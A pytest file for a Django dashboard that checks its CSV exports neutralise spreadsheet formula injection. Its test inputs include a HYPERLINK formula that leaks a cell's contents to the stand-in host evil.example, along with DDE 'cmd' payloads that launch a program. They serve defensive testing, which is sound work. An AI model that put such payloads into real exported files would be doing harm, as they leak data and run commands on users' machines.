"""CSV formula injection (issue 16, item 6): no cell the product writes starts a spreadsheet formula.

A quote starting `=HYPERLINK(...)` reached the public reported-figures CSV, and official fields starting `=`/`@`
came out raw in the contributions CSV. Every CSV writer goes through apps.core.csv_safety: a text cell starting
with = + - @ (or a tab/carriage return, OWASP's list) gets a leading single quote; numbers, negative ones
included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from apps.core.csv_safety import safe_cell, safe_row
from apps.dashboards.charts import Table
from tests.dashboards.conftest import data  # noqa: F401 - the dashboards' fixture data
from tests.dashboards.factories import ContributionFactory, CountryFactory, MissionFactory, reported_figure_with_source

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_that_starts_a_formula_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-5, -0.5, 0, 12, 3.25, "-5", "-12.5", "+3", "-1e3", "", "Viet Nam", "a=b", "e-mail", None]
)
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_safe_row_maps_every_cell():
    assert safe_row(["=1", -3, None, "ok"]) == ["'=1", -3, "", "ok"]


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _numeric(cell)):
                raise AssertionError(f"formula cell {cell!r} in {row!r}")


def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_official_fields_come_out_neutralised_in_the_contributions_csv(client):
    country = CountryFactory(iso3="VNM", name="=Viet Nam")
    mission = MissionFactory(acronym="@UNISFA")
    ContributionFactory(
        country=country,
        mission=mission,
        quality_flags=HOSTILE[0],
        source_document=HOSTILE[3],
        source_file="-cmd.csv",
    )
    response = client.get("/api/v1/contributions/?format=csv")
    assert response.status_code == 200
    rows = _rows(b"".join(response.streaming_content))
    _no_formula(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["quality_flags"] == "'" + HOSTILE[0]
    assert row["source_document"] == "'" + HOSTILE[3]
    assert row["country_name"] == "'=Viet Nam" and row["mission"] == "'@UNISFA"
    assert row["source_file"] == "'-cmd.csv"
    assert row["female"] == "10" and row["total"] == "100"  # numbers untouched


def test_a_quote_starting_a_formula_is_neutralised_in_the_public_reported_figures_csv(client, data):  # noqa: F811
    from apps.curation.models import ReportedFigure

    fig = reported_figure_with_source(country=data["vnm"], unit="+engineers")
    source = fig.sources.get()
    source.quote = HOSTILE[0]
    source.save()
    source.article.outlet = "@Outlet"
    source.article.save()
    assert ReportedFigure.objects.filter(country=data["vnm"]).count() >= 1
    response = client.get("/countries/VNM/?format=csv&chart=reported")
    assert response.status_code == 200
    rows = _rows(response.content)
    _no_formula(rows)
    assert any("'" + HOSTILE[0] in row for row in rows), rows
    assert any("'@Outlet" in row and "'+engineers" in row for row in rows), rows


def test_every_dashboard_chart_csv_is_free_of_formulas(client, data):  # noqa: F811
    checked = 0
    for page in ("/", "/countries/VNM/", "/missions/", "/missions/UNMISS/", "/rankings/", "/map/"):
        html = client.get(page).content.decode()
        charts = sorted(set(_chart_ids(html)))
        assert charts, page
        for chart in charts:
            checked += 1
            response = client.get(f"{page}?format=csv&chart={chart}")
            assert response.status_code == 200, (page, chart)
            _no_formula(_rows(response.content))
    assert checked >= 10


def _chart_ids(html: str) -> list[str]:
    import re

    links = [h for h in re.findall(r'href="([^"]*)"', html) if "format=csv" in h]
    return [m for h in links for m in re.findall(r"chart=([\w-]+)", h)]


def test_the_table_writer_and_the_api_writer_share_the_rule():
    table = Table(["name", "delta"], [["=1+1", -4], ["Ghana", 2]])
    assert _rows(table.to_csv({"Source": "@src"}).encode()) == [
        ["name", "delta", "Source"],
        ["'=1+1", "-4", "'@src"],
        ["Ghana", "2", "'@src"],
    ]
    from apps.api.renderers import CSVRenderer

    body = CSVRenderer().render([{"quote": "=1+1", "n": -2}])
    assert _rows(body) == [["quote", "n"], ["'=1+1", "-2"]]
